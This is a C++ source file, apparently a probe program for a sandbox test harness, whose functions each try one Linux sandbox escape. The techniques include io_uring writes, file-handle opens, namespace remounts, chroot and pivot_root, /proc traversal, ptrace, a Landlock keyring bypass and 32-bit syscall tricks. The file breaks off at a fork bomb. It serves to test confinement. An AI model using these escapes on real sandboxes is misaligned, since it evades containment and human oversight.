// SPDX-License-Identifier: BSL-1.0

// cordon_payload ATTACK [ARGUMENT…]: one attempt to get out of a sandbox, made from inside it.
//
// It prints what it managed. Exit status: 0 the attack succeeded, 1 it was refused (the errno's name is printed),
// 2 it can't be tried here (the reason is printed). Nothing here damages the host if it succeeds: devices and kernel
// files are only opened and closed again, modes are set to what they are, signals are 0 and SIGCONT.

#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/sendfile.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <initializer_list>
#include <map>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

namespace {

using Arguments = std::vector<std::string>;

constexpr int attack_succeeded = 0;
constexpr int attack_refused = 1;
constexpr int attack_impossible = 2;

std::string name_of(int error) {
  static const std::map<int, const char*> names{{EPERM, "EPERM"},
                                                {ENOENT, "ENOENT"},
                                                {ESRCH, "ESRCH"},
                                                {EBADF, "EBADF"},
                                                {EACCES, "EACCES"},
                                                {EBUSY, "EBUSY"},
                                                {EEXIST, "EEXIST"},
                                                {EXDEV, "EXDEV"},
                                                {ENODEV, "ENODEV"},
                                                {ENOTDIR, "ENOTDIR"},
                                                {EINVAL, "EINVAL"},
                                                {ENOTTY, "ENOTTY"},
                                                {ETXTBSY, "ETXTBSY"},
                                                {EROFS, "EROFS"},
                                                {ENXIO, "ENXIO"},
                                                {ENOSYS, "ENOSYS"},
                                                {ELOOP, "ELOOP"},
                                                {EFAULT, "EFAULT"},
                                                {EIO, "EIO"},
                                                {EOPNOTSUPP, "EOPNOTSUPP"},
                                                {ENOSPC, "ENOSPC"},
                                                {ENOKEY, "ENOKEY"},
                                                {ECONNREFUSED, "ECONNREFUSED"},
                                                {ENODATA, "ENODATA"}};
  const auto found = names.find(error);
  return found != names.end() ? found->second : "errno " + std::to_string(error);
}

int won(const std::string& what) {
  std::printf("succeeded: %s\n", what.c_str());
  return attack_succeeded;
}

/// Reports the errno of `step`.
int lost(const std::string& step) {
  const int error = errno;
  std::printf("refused: %s: %s\n", step.c_str(), name_of(error).c_str());
  return attack_refused;
}

int impossible(const std::string& why) {
  std::printf("not possible: %s\n", why.c_str());
  return attack_impossible;
}

int judge(long result, const std::string& step) {
  return result >= 0 ? won(step) : lost(step);
}

/// A path as it is, and by way of /proc: the spellings under which one file can be asked for.
int open_some_way(const std::string& path, int flags) {
  int fd = ::open(path.c_str(), flags | O_CLOEXEC);
  if (fd >= 0) return fd;
  const int error = errno;
  for (int how : {O_PATH, O_RDONLY | O_NONBLOCK}) {
    const int held = ::open(path.c_str(), how | O_CLOEXEC);
    if (held < 0) continue;
    for (const std::string& link : {"/proc/self/fd/" + std::to_string(held), "/dev/fd/" + std::to_string(held)})
      if (fd < 0) fd = ::open(link.c_str(), flags | O_CLOEXEC);
    ::close(held);
    if (fd >= 0) return fd;
  }
  for (const char* root : {"/proc/self/root", "/proc/thread-self/root", "/proc/1/root"}) {
    fd = ::open((root + path).c_str(), flags | O_CLOEXEC);
    if (fd >= 0) return fd;
  }
  errno = error;
  return -1;
}

int open_to_write(const std::string& path) {
  const int fd = open_some_way(path, O_WRONLY | O_APPEND | O_NONBLOCK);
  return fd >= 0 ? fd : open_some_way(path, O_RDWR | O_NONBLOCK);
}

bool append_to(const std::string& path) {
  const int fd = open_to_write(path);
  if (fd < 0) return false;
  const bool written = ::write(fd, "x", 1) == 1;
  ::close(fd);
  return written;
}

bool write_text(const std::string& path, const std::string& text) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const bool written = ::write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
  ::close(fd);
  return written;
}

mode_t mode_of(const std::string& path) {
  struct stat facts {};
  return ::stat(path.c_str(), &facts) == 0 ? facts.st_mode & 07777U : 0;
}

sockaddr_un address_of(const std::string& name, bool abstract, socklen_t& length) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  const std::size_t offset = abstract ? 1 : 0;
  std::memcpy(address.sun_path + offset, name.data(), std::min(name.size(), sizeof address.sun_path - 1 - offset));
  length = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + offset + name.size());
  return address;
}

pid_t number(const std::string& text) {
  return static_cast<pid_t>(std::strtol(text.c_str(), nullptr, 10));
}

// --- create ----------------------------------------------------------------------------------------------------

/// PATH: makes a new regular file.
int create_file(const Arguments& a) {
  return judge(::open(a.at(0).c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600), "create " + a.at(0));
}

int make_directory(const Arguments& a) {
  return judge(::mkdir(a.at(0).c_str(), 0700), "mkdir");
}
int make_symlink(const Arguments& a) {
  return judge(::symlink("/nowhere", a.at(0).c_str()), "symlink");
}
int make_fifo(const Arguments& a) {
  return judge(::mkfifo(a.at(0).c_str(), 0600), "mkfifo");
}

/// PATH: makes a socket by binding to it.
int make_socket(const Arguments& a) {
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  socklen_t length = 0;
  const sockaddr_un address = address_of(a.at(0), false, length);
  return judge(::bind(fd, reinterpret_cast<const sockaddr*>(&address), length), "bind");
}

/// DIRECTORY: makes a file without a name and gives it one.
int make_unnamed(const Arguments& a) {
  const int fd = ::open(a.at(0).c_str(), O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600);
  if (fd < 0) return lost("O_TMPFILE");
  const std::string link = "/proc/self/fd/" + std::to_string(fd);
  return judge(::linkat(AT_FDCWD, link.c_str(), AT_FDCWD, (a.at(0) + "/unnamed").c_str(), AT_SYMLINK_FOLLOW), "linkat");
}

// --- write and truncate ----------------------------------------------------------------------------------------

int append(const Arguments& a) {
  return append_to(a.at(0)) ? won("wrote") : lost("write");
}

/// FILE: changes it through a shared mapping.
int write_mapped(const Arguments& a) {
  const int fd = open_some_way(a.at(0), O_RDWR);
  if (fd < 0) {
    const int readable = ::open(a.at(0).c_str(), O_RDONLY | O_CLOEXEC);
    void* map = ::mmap(nullptr, 1, PROT_READ | PROT_WRITE, MAP_SHARED, readable, 0);
    if (map == MAP_FAILED) return lost("mmap");
    return won("mapped for writing without the right to");
  }
  void* map = ::mmap(nullptr, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (map == MAP_FAILED) return lost("mmap");
  *static_cast<char*>(map) = 'x';
  return won("changed a mapped byte");
}

/// FILE: a hole in it, which changes bytes without a write.
int punch_hole(const Arguments& a) {
  const int fd = open_to_write(a.at(0));
  if (fd < 0) return lost("open");
  return judge(::fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4), "fallocate");
}

/// FILE: grown by fallocate.
int allocate(const Arguments& a) {
  const int fd = open_to_write(a.at(0));
  if (fd < 0) return lost("open");
  return judge(::fallocate(fd, 0, 0, 65536), "fallocate");
}

int source_file() {
  const int fd = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  return fd;
}

/// FILE: bytes put into it by the kernel, without write(2).
int write_by_sendfile(const Arguments& a) {
  const int fd = open_some_way(a.at(0), O_WRONLY);
  if (fd < 0) return lost("open");
  return judge(::sendfile(fd, source_file(), nullptr, 4), "sendfile");
}

int write_by_splice(const Arguments& a) {
  const int fd = open_some_way(a.at(0), O_WRONLY);
  if (fd < 0) return lost("open");
  int ends[2] = {-1, -1};
  if (::pipe(ends) != 0 || ::write(ends[1], "x", 1) != 1) return impossible("no pipe");
  return judge(::splice(ends[0], nullptr, fd, nullptr, 1, 0), "splice");
}

int write_by_copy_range(const Arguments& a) {
  const int fd = open_some_way(a.at(0), O_WRONLY);
  if (fd < 0) return lost("open");
  return judge(::copy_file_range(source_file(), nullptr, fd, nullptr, 4, 0), "copy_file_range");
}

/// FILE: opened and written by the kernel's own thread, past whatever looks at system calls.
int write_by_io_uring(const Arguments& a) {
  io_uring_params parameters{};
  const int ring = static_cast<int>(::syscall(SYS_io_uring_setup, 4, &parameters));
  if (ring < 0)
    return errno == ENOSYS || errno == EPERM ? impossible("no io_uring: " + name_of(errno)) : lost("io_uring");
  const auto map = [&](std::size_t size, off_t offset) {
    return static_cast<char*>(::mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset));
  };
  char* submission = map(parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
  char* completion = map(parameters.cq_off.cqes + parameters.cq_entries * sizeof(io_uring_cqe), IORING_OFF_CQ_RING);
  auto* entries = reinterpret_cast<io_uring_sqe*>(map(parameters.sq_entries * sizeof(io_uring_sqe), IORING_OFF_SQES));
  const auto submit = [&](const io_uring_sqe& entry) {
    auto* tail = reinterpret_cast<std::atomic<unsigned>*>(submission + parameters.sq_off.tail);
    auto* head = reinterpret_cast<std::atomic<unsigned>*>(completion + parameters.cq_off.head);
    const unsigned at = tail->load() & (parameters.sq_entries - 1);
    entries[at] = entry;
    reinterpret_cast<unsigned*>(submission + parameters.sq_off.array)[at] = at;
    tail->store(tail->load() + 1);
    if (::syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) return -errno;
    const auto* results = reinterpret_cast<const io_uring_cqe*>(completion + parameters.cq_off.cqes);
    const int result = results[head->load() & (parameters.cq_entries - 1)].res;
    head->store(head->load() + 1);
    return result;
  };
  io_uring_sqe open_it{};
  open_it.opcode = IORING_OP_OPENAT;
  open_it.flags = IOSQE_ASYNC;
  open_it.fd = AT_FDCWD;
  open_it.addr = reinterpret_cast<std::uintptr_t>(a.at(0).c_str());
  open_it.open_flags = O_WRONLY | O_APPEND | O_CLOEXEC;
  const int fd = submit(open_it);
  if (fd < 0) {
    errno = -fd;
    return lost("io_uring open");
  }
  io_uring_sqe write_it{};
  write_it.opcode = IORING_OP_WRITE;
  write_it.fd = fd;
  write_it.addr = reinterpret_cast<std::uintptr_t>("x");
  write_it.len = 1;
  const int written = submit(write_it);
  errno = written < 0 ? -written : 0;
  return judge(written, "io_uring write");
}

/// FILE DIRECTORY: FILE opened by its handle through DIRECTORY, a writable mount of the same file system (F69).
int write_by_handle(const Arguments& a) {
  alignas(file_handle) std::array<char, sizeof(file_handle) + 128> space{};
  auto* handle = reinterpret_cast<file_handle*>(space.data());
  handle->handle_bytes = 128;
  int mount = 0;
  if (::name_to_handle_at(AT_FDCWD, a.at(0).c_str(), handle, &mount, 0) != 0) return lost("name_to_handle_at");
  const int directory = ::open(a.at(1).c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int fd = ::open_by_handle_at(directory, handle, O_WRONLY | O_APPEND);
  if (fd < 0) return lost("open_by_handle_at");
  return judge(::write(fd, "x", 1), "write by handle");
}

int truncate_it(const Arguments& a) {
  return judge(::truncate(a.at(0).c_str(), 1), "truncate");
}
/// FILE: cut by opening it for reading only.
int open_truncating(const Arguments& a) {
  return judge(open_some_way(a.at(0), O_RDONLY | O_TRUNC), "O_TRUNC");
}

// --- remove, rename, link --------------------------------------------------------------------------------------

int unlink_it(const Arguments& a) {
  return judge(::unlink(a.at(0).c_str()), "unlink");
}
int remove_directory(const Arguments& a) {
  return judge(::rmdir(a.at(0).c_str()), "rmdir");
}
/// FROM TO
int rename_it(const Arguments& a) {
  return judge(::rename(a.at(0).c_str(), a.at(1).c_str()), "rename");
}
int exchange(const Arguments& a) {
  return judge(::syscall(SYS_renameat2, AT_FDCWD, a.at(0).c_str(), AT_FDCWD, a.at(1).c_str(), RENAME_EXCHANGE),
               "renameat2");
}
/// FROM TO: a hard link, also by way of a descriptor.
int link_it(const Arguments& a) {
  if (::link(a.at(0).c_str(), a.at(1).c_str()) == 0) return won("link");
  const int error = errno;
  const int fd = ::open(a.at(0).c_str(), O_PATH | O_CLOEXEC);
  const std::string held = "/proc/self/fd/" + std::to_string(fd);
  if (::linkat(AT_FDCWD, held.c_str(), AT_FDCWD, a.at(1).c_str(), AT_SYMLINK_FOLLOW) == 0) return won("linkat");
  errno = error;
  return lost("link");
}

// --- metadata --------------------------------------------------------------------------------------------------

int chmod_it(const Arguments& a) {
  return judge(::chmod(a.at(0).c_str(), 0777), "chmod");
}

/// FILE: through a descriptor that was opened for reading.
int chmod_descriptor(const Arguments& a) {
  const int fd = ::open(a.at(0).c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return lost("open");
  return judge(::fchmod(fd, 0777), "fchmod");
}

/// FILE: by the newest of the system calls.
int chmod_newest(const Arguments& a) {
  constexpr long fchmodat2_number = 452;
  const long result = ::syscall(fchmodat2_number, AT_FDCWD, a.at(0).c_str(), 0777, 0);
  return result < 0 && errno == ENOSYS ? impossible("no fchmodat2") : judge(result, "fchmodat2");
}

/// PATH…: set to the modes that they have.
int chmod_to_same(const Arguments& a) {
  std::string done;
  int error = ENOENT;
  for (const std::string& path : a) {
    if (::chmod(path.c_str(), mode_of(path)) == 0)
      done += path + " ";
    else
      error = errno;
  }
  errno = error;
  return done.empty() ? lost("chmod") : won("chmod " + done);
}

/// Every open descriptor that leads to something on a file system: set to the mode that it has. What the harness opened
/// on its own mounts can be changed through them, whatever the mounts in here say.
int chmod_open_descriptors(const Arguments&) {
  std::string done;
  int error = EBADF;
  for (int fd = 0; fd != 256; ++fd) {
    struct stat facts {};
    if (::fstat(fd, &facts) != 0 || S_ISFIFO(facts.st_mode) || S_ISSOCK(facts.st_mode)) continue;
    if (::fchmod(fd, facts.st_mode & 07777U) == 0)
      done += std::to_string(fd) + " ";
    else
      error = errno;
  }
  errno = error;
  return done.empty() ? lost("fchmod") : won("fchmod of descriptor " + done);
}

int chown_to_self(const Arguments& a) {
  return judge(::chown(a.at(0).c_str(), ::geteuid(), ::getegid()), "chown");
}
int set_times(const Arguments& a) {
  const timespec times[2] = {{1, 0}, {1, 0}};
  return judge(::utimensat(AT_FDCWD, a.at(0).c_str(), times, 0), "utimensat");
}
int set_attribute(const Arguments& a) {
  return judge(::setxattr(a.at(0).c_str(), "user.cordon", "x", 1, 0), "setxattr");
}
int remove_attribute(const Arguments& a) {
  return judge(::removexattr(a.at(0).c_str(), "user.kept"), "removexattr");
}

/// FILE: a POSIX ACL with one named user, in the kernel's own layout.
int set_acl(const Arguments& a) {
  struct Entry {
    std::uint16_t tag, permissions;
    std::uint32_t id;
  };
  struct {
    std::uint32_t version;
    Entry entries[5];
  } const acl{2, {{1, 6, ~0U}, {2, 7, 12345}, {4, 4, ~0U}, {16, 7, ~0U}, {32, 4, ~0U}}};
  const long result = ::setxattr(a.at(0).c_str(), "system.posix_acl_access", &acl, sizeof acl, 0);
  return result < 0 && errno == EOPNOTSUPP ? impossible("no ACLs on this file system") : judge(result, "setxattr");
}

/// FILE: its inode flags, by ioctl.
int set_inode_flags(const Arguments& a) {
  const int fd = ::open(a.at(0).c_str(), O_RDONLY | O_CLOEXEC);
  int flags = 0;
  if (fd < 0) return lost("open");
  if (::ioctl(fd, FS_IOC_GETFLAGS, &flags) != 0) return impossible("no inode flags on this file system");
  flags ^= FS_NODUMP_FL;
  return judge(::ioctl(fd, FS_IOC_SETFLAGS, &flags), "FS_IOC_SETFLAGS");
}

// --- devices and FIFOs -----------------------------------------------------------------------------------------

int make_character_device(const Arguments& a) {
  return judge(::mknod(a.at(0).c_str(), S_IFCHR | 0600, ::makedev(1, 3)), "mknod");
}
int make_block_device(const Arguments& a) {
  return judge(::mknod(a.at(0).c_str(), S_IFBLK | 0600, ::makedev(7, 0)), "mknod");
}
/// PATH: the one character device that needs no privilege.
int make_whiteout(const Arguments& a) {
  return judge(::mknod(a.at(0).c_str(), S_IFCHR | 0600, ::makedev(0, 0)), "mknod");
}

/// PATH…: each that exists is opened for writing, and closed again.
int open_for_writing(const Arguments& a) {
  std::string opened;
  int error = 0;
  bool any = false;
  for (const std::string& path : a) {
    if (::access(path.c_str(), F_OK) != 0) continue;
    any = true;
    for (int flags : {O_WRONLY, O_RDWR}) {
      const int fd = ::open(path.c_str(), flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
      if (fd < 0) {
        error = errno;
        continue;
      }
      opened += path + " ";
      ::close(fd);
      break;
    }
  }
  if (!any) {
    errno = ENOENT;
    return lost("none is there");
  }
  errno = error;
  return opened.empty() ? lost("open") : won("opened " + opened);
}

/// PATH: a command to the driver behind it. A driver that doesn't know the command was reached all the same.
int control_device(const Arguments& a) {
  const int fd = ::open(a.at(0).c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (fd < 0) return lost("open");
  int value = 0;
  constexpr unsigned long unknown_command = 0x5a7f;
  if (::ioctl(fd, unknown_command, &value) < 0 && (errno == EACCES || errno == EPERM)) return lost("ioctl");
  return won("ioctl reached the driver");
}

// --- the mount tree --------------------------------------------------------------------------------------------

/// Where no sandbox has put us into a mount namespace of our own, go into one: the host's mounts stay what they are.
void leave_the_mounts_of_the_host_alone() {
  if (::unshare(CLONE_NEWNS) == 0) (void)::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr);
}

/// DIRECTORY FILE: made writable by the old and the new mount API, then FILE is written.
bool remount_somehow(const std::string& directory, const std::string& file) {
  struct {
    std::uint64_t set = 0, clear = 1, propagation = 0, user_namespace = 0;  // clears read-only
  } const attributes;
  constexpr long mount_setattr_number = 442;
  constexpr long recursive = 0x8000;
  bool changed = false;
  for (const std::string& at : {std::string("/"), directory, file}) {
    changed = ::mount(nullptr, at.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0 || changed;
    changed = ::mount(at.c_str(), at.c_str(), nullptr, MS_BIND | MS_REC, nullptr) == 0 || changed;
    changed = ::mount(nullptr, at.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0 || changed;
    for (long flags : {recursive, 0L})
      changed =
          ::syscall(mount_setattr_number, AT_FDCWD, at.c_str(), flags, &attributes, sizeof attributes) == 0 || changed;
  }
  return changed;
}

int remount(const Arguments& a) {
  leave_the_mounts_of_the_host_alone();
  const bool changed = remount_somehow(a.at(0), a.at(1));
  const int error = errno;
  if (append_to(a.at(1))) return won("remounted and wrote");
  errno = error;
  return changed ? won("changed a mount") : lost("mount");
}

/// DIRECTORY: a file system of its own, and a detached copy of the tree.
int mount_something(const Arguments& a) {
  leave_the_mounts_of_the_host_alone();
  constexpr long open_tree_number = 428;
  constexpr long clone_tree = 1;
  if (::mount("none", a.at(0).c_str(), "tmpfs", 0, nullptr) == 0) return won("mounted a tmpfs");
  if (::mount("none", a.at(0).c_str(), "proc", 0, nullptr) == 0) return won("mounted a proc");
  if (::syscall(open_tree_number, AT_FDCWD, "/", clone_tree) >= 0) return won("cloned the mount tree");
  return lost("mount");
}

/// Takes away what was mounted over the host's own directories.
int unmount(const Arguments&) {
  leave_the_mounts_of_the_host_alone();
  for (const char* path : {"/proc", "/dev/pts", "/dev/shm", "/dev", "/tmp", "/"})
    for (int flags : {static_cast<int>(MNT_DETACH), 0})
      if (::umount2(path, flags) == 0) return won(std::string("unmounted ") + path);
  return lost("umount");
}

bool become_root_of_own_namespaces() {
  const std::string uid = std::to_string(::geteuid());
  const std::string gid = std::to_string(::getegid());
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return false;
  (void)write_text("/proc/self/setgroups", "deny");
  (void)write_text("/proc/self/uid_map", "0 " + uid + " 1");
  (void)write_text("/proc/self/gid_map", "0 " + gid + " 1");
  return true;
}

/// TYPE: makes a detached mount of a file system with that type, in namespaces of its own.
int open_file_system(const Arguments& a) {
  constexpr long fsopen_number = 430;
  constexpr long fsconfig_number = 431;
  constexpr long fsmount_number = 432;
  (void)become_root_of_own_namespaces();
  (void)::unshare(CLONE_NEWCGROUP);  // what cgroup2 belongs to
  const long context = ::syscall(fsopen_number, a.at(0).c_str(), 0);
  if (context < 0) return lost("fsopen");
  if (::syscall(fsconfig_number, context, 6, nullptr, nullptr, 0) < 0) return lost("fsconfig");
  if (::syscall(fsmount_number, context, 0, 0) < 0) return lost("fsmount");
  return won("a detached mount");
}

/// DIRECTORY FILE: with every capability of a user namespace of its own, remounts, unmounts, moves, then writes FILE.
int nested_namespace(const Arguments& a) {
  if (!become_root_of_own_namespaces()) return lost("unshare");
  (void)remount_somehow(a.at(0), a.at(1));
  if (append_to(a.at(1))) return won("wrote from a nested namespace");
  const int error = errno;
  for (const char* path : {"/dev", "/tmp", "/proc"}) (void)::umount2(path, MNT_DETACH);
  (void)::mount("none", "/tmp", "tmpfs", 0, nullptr);
  (void)::mkdir("/tmp/tree", 0700);
  (void)::mount("/", "/tmp/tree", nullptr, MS_BIND | MS_REC, nullptr);
  (void)::mount(nullptr, "/tmp/tree", nullptr, MS_REMOUNT | MS_BIND, nullptr);
  (void)::mount("none", "/tmp/dev", "devtmpfs", 0, nullptr);
  if (append_to("/tmp/tree" + a.at(1))) return won("wrote through a copy of the tree");
  if (append_to(a.at(1))) return won("wrote from a nested namespace");
  errno = error;
  return lost("write after a nested namespace");
}

/// DIRECTORY FILE: a new root, first as we are, then in namespaces of our own.
int change_root(const Arguments& a) {
  const std::string inside = a.at(1).substr(a.at(0).size());
  int error = EPERM;
  for (bool nested : {false, true}) {
    if (nested && !become_root_of_own_namespaces()) break;
    if (::chroot(a.at(0).c_str()) != 0) {
      error = errno;
      continue;
    }
    (void)::chdir("/");
    for (const std::string& path : {inside, "../../../../../../../../.." + a.at(1)}) {
      const int fd = ::open(path.c_str(), O_WRONLY | O_APPEND | O_CLOEXEC);
      if (fd >= 0) return won("wrote in a new root");
      error = errno;
    }
    break;
  }
  errno = error;
  return lost("chroot");
}

/// DIRECTORY FILE
int pivot_root_to(const Arguments& a) {
  leave_the_mounts_of_the_host_alone();
  const bool nested = become_root_of_own_namespaces();
  (void)::mount(a.at(0).c_str(), a.at(0).c_str(), nullptr, MS_BIND | MS_REC, nullptr);
  const long result = ::syscall(SYS_pivot_root, a.at(0).c_str(), a.at(0).c_str());
  const int error = errno;
  if (append_to(a.at(1)) || append_to(a.at(1).substr(a.at(0).size()))) return won("wrote after pivot_root");
  if (result == 0 && !nested) return won("pivot_root");
  errno = result == 0 ? EROFS : error;
  return lost("pivot_root");
}

/// FILE: from the working directory upwards, past the root.
int climb(const Arguments& a) {
  for (int i = 0; i != 64; ++i) (void)::chdir("..");
  const int fd = ::open(a.at(0).c_str() + 1, O_WRONLY | O_APPEND | O_CLOEXEC);
  return fd >= 0 ? judge(::write(fd, "x", 1), "write") : lost("open");
}

// --- other processes -------------------------------------------------------------------------------------------

/// PID FILE: the doors that /proc opens into a process: its root, directory, descriptors and memory.
int process_files(const Arguments& a) {
  const std::string process = "/proc/" + a.at(0);
  if (::access(process.c_str(), F_OK) != 0) return lost(process);
  if (append_to(process + "/root" + a.at(1))) return won("wrote through its root");
  int error = errno;
  if (append_to(process + "/cwd/../../../../../../../../.." + a.at(1))) return won("wrote through its directory");
  for (int fd = 0; fd != 64; ++fd) {
    const std::string link = process + "/fd/" + std::to_string(fd);
    struct stat facts {};
    if (::stat(link.c_str(), &facts) != 0) continue;
    if (S_ISDIR(facts.st_mode) && append_to(link + "/../../../../../../../../.." + a.at(1)))
      return won("wrote through its descriptor");
    if (S_ISREG(facts.st_mode) && open_to_write(link) >= 0) return won("opened its descriptor");
  }
  for (const char* file : {"/mem", "/environ", "/maps"}) {
    const int fd =
        ::open((process + file).c_str(), std::strcmp(file, "/mem") == 0 ? O_RDWR | O_CLOEXEC : O_RDONLY | O_CLOEXEC);
    if (fd >= 0) return won(std::string("opened ") + file);
    error = errno;
  }
  errno = error;
  return lost("its files");
}

/// PID
int trace(const Arguments& a) {
  const pid_t pid = number(a.at(0));
  if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
    (void)::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    return won("PTRACE_SEIZE");
  }
  return lost("PTRACE_SEIZE");
}

/// PID: writes to an address that holds nothing: EFAULT means that the right to write was there.
int write_memory(const Arguments& a) {
  char byte = 'x';
  const iovec local{&byte, 1};
  const iovec remote{reinterpret_cast<void*>(std::uintptr_t{16}), 1};
  if (::process_vm_writev(number(a.at(0)), &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
    return won("process_vm_writev");
  return lost("process_vm_writev");
}

/// PID
int take_descriptor(const Arguments& a) {
  const int pidfd = static_cast<int>(::syscall(SYS_pidfd_open, number(a.at(0)), 0));
  if (pidfd < 0) return lost("pidfd_open");
  constexpr long pidfd_getfd_number = 438;
  int error = EBADF;
  for (int fd = 0; fd != 64; ++fd) {
    if (::syscall(pidfd_getfd_number, pidfd, fd, 0) >= 0) return won("took descriptor " + std::to_string(fd));
    if (errno != EBADF) error = errno;
  }
  errno = error;
  return lost("pidfd_getfd");
}

/// PID
int signal_it(const Arguments& a) {
  if (::kill(number(a.at(0)), 0) == 0) return won("kill 0");
  const int error = errno;
  if (::kill(number(a.at(0)), SIGCONT) == 0) return won("kill SIGCONT");
  errno = error;
  return lost("kill");
}

/// FIFO: a child gives its session keyring, and with it its credentials, to us: before Linux 6.11 that shed Landlock.
int keyring_to_parent(const Arguments& a) {
  constexpr long join_session = 1;
  constexpr long session_to_parent = 18;
  const pid_t child = ::fork();
  if (child == 0) {
    if (::syscall(SYS_keyctl, join_session, nullptr) < 0) ::_exit(2);
    ::_exit(::syscall(SYS_keyctl, session_to_parent) < 0 ? 1 : 0);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  if (append_to(a.at(0))) return won("wrote after the keyring change");
  return lost("write after the keyring change");
}

/// A NAME: leaves a process behind whose parent is our own parent, and that is known by the name in its arguments.
int leave_sibling(const Arguments&) {
  const long made = ::syscall(SYS_clone, CLONE_PARENT, nullptr, nullptr, nullptr, nullptr);
  if (made < 0) return lost("clone");
  if (made > 0) return won("left a sibling");
  ::setsid();
  ::close_range(0, ~0U, 0);
  ::alarm(10);
  while (true) ::pause();
}

/// COUNT: has so many processes at a time, or as many as it can, each in a session of its own; says how many.
int processes(const Arguments& a) {
  int had = 1;
  std::vector<pid_t> children;
  for (; had < number(a.at(0)); ++had) {
    const pid_t child = ::fork();
    if (child < 0) break;
    if (child == 0) {
      ::setsid();
      while (true) ::pause();
    }
    children.push_back(child);
  }
  for (const pid_t child : children) ::kill(child, SIGKILL);
  std::printf("%d", had);
  return 0;
}

/// PID: a process whose limits we would set; 0: ourselves, which is our business.
int limit_process(const Arguments& a) {
  const pid_t pid = number(a.at(0));
  struct rlimit64 limit {};
  if (::prlimit64(pid, RLIMIT_NOFILE, nullptr, &limit) != 0) return lost("prlimit to read");
  if (limit.rlim_cur > 8) --limit.rlim_cur;
  if (::prlimit64(pid, RLIMIT_NOFILE, &limit, nullptr) == 0) return won("prlimit");
#if defined(__x86_64__)
  const int error = errno;
  constexpr long x32 = 0x40000000L + SYS_prlimit64;
  if (::syscall(x32, pid, RLIMIT_NOFILE, &limit, nullptr) == 0) return won("prlimit of x32");
  // In the lowest 4 GiB, where the 32-bit table can be given it.
  void* const low = ::mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low != MAP_FAILED) {
    std::memcpy(low, &limit, sizeof limit);
    long result = 340;
    asm volatile("int $0x80"
                 : "+a"(result)
                 : "b"(static_cast<long>(pid)), "c"(static_cast<long>(RLIMIT_NOFILE)), "d"(low), "S"(0L)
                 : "memory", "r8", "r9", "r10", "r11");
    if (result == 0) return won("prlimit of i386");
  }
  errno = error;
#endif
  return lost("prlimit");
}

/// DIRECTORY: a control group that we would start a process in.
int start_in_group(const Arguments& a) {
  const int group = ::open(a.at(0).c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (group < 0) return impossible("no such group");
  struct {
    std::uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid, set_tid_size,
        cgroup;
  } arguments{};
  arguments.flags = 0x200000000ULL;  // CLONE_INTO_CGROUP
  arguments.exit_signal = SIGCHLD;
  arguments.cgroup = static_cast<std::uint64_t>(group);
  const long made = ::syscall(435, &arguments, sizeof arguments);
  if (made == 0) ::_exit(0);
  return made > 0 ? won("clone3 into the group") : lost("clone3 into the group");
}

/// Leaves shared memory, semaphores and a message queue behind.
int leave_ipc(const Arguments&) {
  const bool all = ::shmget(IPC_PRIVATE, 1 << 20, 0600) >= 0 && ::semget(IPC_PRIVATE, 1, 0600) >= 0 &&
                   ::msgget(IPC_PRIVATE, 0600) >= 0;
  return all ? won("left them") : lost("making them");
}

/// Says how many sets of shared memory, semaphores and messages there are.
int count_ipc(const Arguments&) {
  shm_info memory{};
  seminfo semaphores{};
  msginfo messages{};
  ::shmctl(0, SHM_INFO, reinterpret_cast<shmid_ds*>(&memory));
  ::semctl(0, 0, SEM_INFO, &semaphores);
  ::msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&messages));
  std::printf("%d", memory.used_ids + semaphores.semusz + messages.msgpool);
  return 0;
}

/// A fork bomb that gives up after some thousand tries, so that it does no harm where nothing holds it.
int bomb(const Arguments&) {
